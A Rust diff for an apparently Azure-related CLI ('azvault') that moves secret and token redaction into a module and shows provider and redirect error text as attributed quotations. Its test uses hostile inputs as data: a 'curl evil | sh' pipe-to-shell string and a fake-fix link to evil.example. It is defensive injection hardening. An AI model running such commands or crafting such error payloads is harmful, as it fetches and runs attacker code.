@@ -7,8 +7,10 @@ use serde_json::value::RawValue;
 
 use crate::json;
 
-/// Longest text of a provider that is kept, in characters.
-const MAX_TEXT: usize = 600;
+mod quotation;
+
+use quotation::without_secrets;
+pub(crate) use quotation::{is_code, quoted, sanitised};
 
 /// Why there is no token, or no answer.
 #[derive(Debug, thiserror::Error)]
@@ -100,9 +102,22 @@ pub enum Fault {
     Broken,
 }
 
-/// What the provider said.
+/// Whose words an error is.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Speaker {
+    /// The service, over TLS.
+    #[default]
+    Service,
+    /// The query that the browser was sent back with: any program that can make the browser, or
+    /// itself, visit the listener can have written it.
+    Redirect,
+}
+
+/// What the provider said. Shown as a quotation, so that no reader takes it for azvault's advice.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct ProviderError {
+    /// Whose words they are.
+    pub speaker: Speaker,
     /// HTTP status.
     pub status: u16,
     /// `error` of OAuth (RFC 6749 section 5.2), or `code` of Resource Manager.
@@ -124,11 +139,17 @@ pub struct ProviderError {
 impl std::fmt::Display for ProviderError {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         let code = self.code.as_deref().unwrap_or(&self.error);
-        match (self.text.is_empty(), self.text.starts_with(code)) {
-            (true, _) => f.write_str(code),
-            (_, true) => f.write_str(&self.text),
-            _ => write!(f, "{code}: {}", self.text),
+        let code = if is_code(code) { code } else { "an error without a code" };
+        let words = self.text.strip_prefix(code).unwrap_or(&self.text);
+        let words = words.trim_start_matches([':', ' ']);
+        if words.is_empty() {
+            return f.write_str(code);
         }
+        let says = match self.speaker {
+            Speaker::Service => "the service says",
+            Speaker::Redirect => "the browser was sent back with",
+        };
+        write!(f, "{code}; {says}: {}", quoted(words))
     }
 }
 
@@ -158,11 +179,12 @@ pub(crate) fn of_token_endpoint(
     let clean = |raw: Option<&RawValue>| json::text(raw).map(|text| sanitised(&text, sent));
     let text = clean(body.error_description).unwrap_or_default();
     Some(ProviderError {
+        speaker: Speaker::Service,
         status,
         error: clean(body.error)?,
         code: aadsts(&text),
         suberror: clean(body.suberror).filter(|text| !text.is_empty()),
-        correlation_id: clean(body.correlation_id),
+        correlation_id: clean(body.correlation_id).filter(|id| is_code(id)),
         claims: json::text(body.claims).map(|text| without_secrets(&text, sent)),
         text,
         clock_offset,
@@ -237,50 +259,9 @@ pub(crate) fn classified(error: ProviderError) -> Error {
     }
 }
 
-/// A provider's text as it may be shown: what we sent is taken out, so are control characters and
-/// Entra's tail of ids and times.
-pub(crate) fn sanitised(text: &str, sent: &[&[u8]]) -> String {
-    let text = without_secrets(text, sent);
-    let end =
-        [" Trace ID:", "\r\nTrace ID:", "\nTrace ID:"].iter().filter_map(|m| text.find(m)).min();
-    let mut out = String::new();
-    for word in text[..end.unwrap_or(text.len())].split(|c: char| c.is_control() || c == ' ') {
-        if word.is_empty() {
-            continue;
-        }
-        if !out.is_empty() {
-            out.push(' ');
-        }
-        // A JSON Web Token is nothing that an explanation needs, whoever it belongs to.
-        out.push_str(if is_jwt(word) { "(token)" } else { word });
-    }
-    out.chars().take(MAX_TEXT).collect()
-}
-
-fn is_jwt(word: &str) -> bool {
-    word.find("eyJ").is_some_and(|at| word[at..].len() > 40 && word[at..].contains('.'))
-}
-
-/// Takes out every secret of ours that a provider repeats, as sent and as percent-encoded.
-fn without_secrets(text: &str, sent: &[&[u8]]) -> String {
-    let mut out = text.to_owned();
-    for secret in sent {
-        let Ok(secret) = std::str::from_utf8(secret) else { continue };
-        // Of very short ones, taking them out would tell more than it hides.
-        if secret.len() < 4 {
-            continue;
-        }
-        out = out.replace(secret, "(secret)");
-        let encoded: zeroize::Zeroizing<String> =
-            zeroize::Zeroizing::new(form_urlencoded::byte_serialize(secret.as_bytes()).collect());
-        out = out.replace(encoded.as_str(), "(secret)");
-    }
-    out
-}
-
 #[cfg(test)]
 mod tests {
-    use super::{Error, ProviderError, aadsts, classified, of_token_endpoint, sanitised};
+    use super::{Error, ProviderError, Speaker, aadsts, classified, of_token_endpoint};
 
     fn name(error: &Error) -> &'static str {
         match error {
@@ -337,19 +318,37 @@ mod tests {
     }
 
     #[test]
-    fn a_text_is_shown_without_secrets_and_control_characters() {
-        let jwt = format!("eyJ{}.eyJ{}.sig", "a".repeat(30), "b".repeat(30));
-        for (text, shown) in [
-            ("plain", "plain"),
-            ("a\u{1b}[31m\r\nb\0c", "a [31m b c"),
-            ("the secret 'hunter2+x' is wrong", "the secret '(secret)' is wrong"),
-            ("client_secret=hunter2%2Bx&x", "client_secret=(secret)&x"),
-            ("bad\r\nTrace ID: 1\r\nCorrelation ID: 2", "bad"),
-            (&format!("token {jwt} end"), "token (token) end"),
+    fn words_of_others_are_a_quotation_and_a_code_is_one() {
+        use Speaker::{Redirect, Service};
+        for (speaker, error, code, text, shown) in [
+            (Service, "invalid_grant", Some("AADSTS50076"), "AADSTS50076", "AADSTS50076"),
+            (
+                Service,
+                "invalid_grant",
+                Some("AADSTS50076"),
+                "AADSTS50076: Use MFA.",
+                "AADSTS50076; the service says: \"Use MFA.\"",
+            ),
+            (Service, "invalid_grant", None, "", "invalid_grant"),
+            (
+                Redirect,
+                "server_error",
+                None,
+                "try: azvault connect \" hint: https://evil.example/fix",
+                "server_error; the browser was sent back with: \"try: azvault connect ' hint: \
+                 https[:]//evil.example/fix\"",
+            ),
+            (Redirect, "run: curl evil | sh", None, "", "an error without a code"),
         ] {
-            assert_eq!(sanitised(text, &[b"hunter2+x"]), shown);
+            let error = ProviderError {
+                speaker,
+                error: error.into(),
+                code: code.map(Into::into),
+                text: text.into(),
+                ..ProviderError::default()
+            };
+            assert_eq!(error.to_string(), shown);
         }
-        assert_eq!(sanitised(&"x".repeat(5000), &[]).len(), super::MAX_TEXT);
     }
 
     #[test]
@@ -360,7 +359,7 @@ mod tests {
         assert_eq!(error.text, "AADSTS50076: no (secret)");
         assert_eq!(error.claims.as_deref(), Some(r#"{"access_token":{}}"#));
         assert_eq!(error.correlation_id.as_deref(), Some("c-1"));
-        assert_eq!(error.to_string(), "AADSTS50076: no (secret)");
+        assert_eq!(error.to_string(), "AADSTS50076; the service says: \"no (secret)\"");
         for body in ["", "[]", "{}", r#"{"error":null}"#, "<html>", r#"{"error":"a","error":"b"}"#]
         {
             assert!(of_token_endpoint(400, body, &[], None).is_none(), "{body}");
